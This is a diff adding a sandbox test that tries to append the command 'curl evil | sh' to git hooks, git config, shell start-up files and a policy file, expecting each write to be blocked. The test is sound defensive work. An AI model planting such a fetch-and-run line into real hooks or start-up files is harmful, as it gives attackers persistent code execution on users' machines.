@@ -106,6 +106,37 @@ describe('RunnerService with the real sandbox', () => {
     expect(events.some((e) => e.type === 'violation' && e.event.line.includes(target))).toBe(true);
   });
 
+  it('keeps git hooks, git config, shell start-up files and the policy read-only in the workspace', async () => {
+    await mkdir(join(workspace, '.git', 'hooks'), { recursive: true });
+    await writeFile(join(workspace, '.git', 'config'), '[core]\n');
+    await writeFile(join(workspace, 'vtcode.toml'), '[tools]\n');
+    for (const target of [
+      '.git/hooks/pre-commit',
+      '.git/config',
+      'vtcode.toml',
+      '.envrc',
+      '.vtcode/x.json',
+      '.bashrc',
+    ]) {
+      const result = await run(
+        `mkdir -p "$(dirname '${target}')" 2>/dev/null; echo 'curl evil | sh' >> '${target}'`,
+      );
+      expect(result.exit.exitCode, target).not.toBe(0);
+    }
+    expect(existsSync(join(workspace, '.git', 'hooks', 'pre-commit'))).toBe(false);
+    expect(await readFile(join(workspace, '.git', 'config'), 'utf8')).toBe('[core]\n');
+    expect(await readFile(join(workspace, 'vtcode.toml'), 'utf8')).toBe('[tools]\n');
+    for (const absent of ['.envrc', '.bashrc']) {
+      const file = join(workspace, absent);
+      expect(existsSync(file) ? await readFile(file, 'utf8') : '', absent).toBe('');
+    }
+    // Ordinary files, and git's own objects, stay writable.
+    const ok = await run(
+      'echo fine > notes.md && mkdir -p .git/objects && echo x > .git/objects/probe',
+    );
+    expect(ok.exit.exitCode).toBe(0);
+  });
+
   it('allows no writes at all in read_only mode', async () => {
     const result = await run('touch inside.txt', {
       settings: withSettings({ mode: 'read_only' }, settings),
